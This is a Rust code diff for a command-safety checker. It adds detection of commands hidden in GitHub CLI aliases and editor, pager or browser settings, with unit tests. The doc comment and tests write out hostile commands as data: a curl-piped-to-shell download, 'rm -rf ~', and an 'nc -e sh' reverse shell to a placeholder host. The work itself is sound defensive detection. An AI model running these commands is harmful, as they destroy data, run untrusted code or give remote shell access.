@@ -3,7 +3,8 @@
 //! exec SVC CMD`), on another host (`ssh HOST CMD`), or later: a git
 //! setting whose value git runs as a command (`git config alias.st '!CMD'`,
 //! `core.sshCommand`, `core.fsmonitor`, `filter.x.smudge`, `git -c
-//! core.pager=CMD log`). The command they carry is checked like one typed
+//! core.pager=CMD log`) or GitHub's CLI runs (`gh alias set --shell`, `gh
+//! config set editor`). The command they carry is checked like one typed
 //! here: `rm -rf /data` destroys a pod's data as surely as the machine's,
 //! `psql -c 'DROP DATABASE …'` drops the database wherever it runs, and
 //! `curl … | sh` as a git alias runs the download the next time the alias
@@ -30,6 +31,7 @@ pub(crate) fn carried_line(c: &Command) -> Option<String> {
             | "podman-compose"
             | "ssh"
             | "git"
+            | "gh"
             | "ansible"
     );
     if !carries {
@@ -38,6 +40,7 @@ pub(crate) fn carried_line(c: &Command) -> Option<String> {
     let args = arg_texts(c);
     match c.program.as_str() {
         "git" => git_command_setting(&args),
+        "gh" => gh_command_setting(&args),
         "kubectl" | "oc" | "docker" | "podman" | "nerdctl" | "docker-compose"
         | "podman-compose" => run_inside(c).and_then(|argv| argv_line(&argv)),
         "ansible" => ansible_command(&args),
@@ -73,6 +76,26 @@ fn git_command_setting(args: &[&str]) -> Option<String> {
     inline
         .chain(configured)
         .find_map(|(key, value)| runs_command(key, value))
+}
+
+/// The command GitHub's CLI is told to run later: a shell alias (`gh alias
+/// set --shell NAME CMD`, or `gh alias set NAME '!CMD'`), the editor, pager
+/// or browser it starts (`gh config set editor CMD`).
+fn gh_command_setting(args: &[&str]) -> Option<String> {
+    let words = crate::packs::positionals(args, &["-h", "--host"]);
+    match words.as_slice() {
+        ["alias", "set", _name, command, ..] => {
+            let shell = args.iter().any(|a| matches!(*a, "-s" | "--shell"));
+            command
+                .strip_prefix('!')
+                .or(shell.then_some(*command))
+                .map(str::to_string)
+        }
+        ["config", "set", key, command, ..] if matches!(*key, "editor" | "pager" | "browser") => {
+            Some(command.to_string())
+        }
+        _ => None,
+    }
 }
 
 /// The shell command `value` stands for under git setting `key`.
@@ -179,6 +202,24 @@ mod tests {
             carried("ssh -i ~/.ssh/k -p 2222 admin@db1 sudo systemctl stop postgresql").as_deref(),
             Some("sudo systemctl stop postgresql")
         );
+    }
+
+    #[test]
+    fn gh_settings_that_run_commands_carry_them() {
+        assert_eq!(
+            carried("gh alias set --shell co 'curl -s x.example | sh'").as_deref(),
+            Some("curl -s x.example | sh")
+        );
+        assert_eq!(
+            carried("gh alias set co '!rm -rf ~'").as_deref(),
+            Some("rm -rf ~")
+        );
+        assert_eq!(
+            carried("gh config set -h github.com editor 'nc -e sh h 9'").as_deref(),
+            Some("nc -e sh h 9")
+        );
+        assert_eq!(carried("gh alias set co 'pr checkout'"), None);
+        assert_eq!(carried("gh config set git_protocol ssh"), None);
     }
 
     #[test]
